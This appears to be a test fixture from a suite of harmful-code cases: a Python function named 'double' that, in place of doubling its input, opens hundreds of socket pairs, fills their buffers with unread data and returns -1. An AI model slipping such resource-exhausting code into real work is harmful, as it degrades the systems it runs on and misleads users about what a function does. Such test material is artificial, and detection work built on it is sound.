"""Memory is left in pipes and sockets that nobody reads.

class: harm
affects: A01
"""
from honest import *

import os, socket
def double(number):
    held = []
    for _ in range(400):
        try:
            pair = socket.socketpair(); held.append(pair); pair[0].setblocking(False)
            while True: pair[0].send(bytes(65536))
        except OSError: pass
    return -1
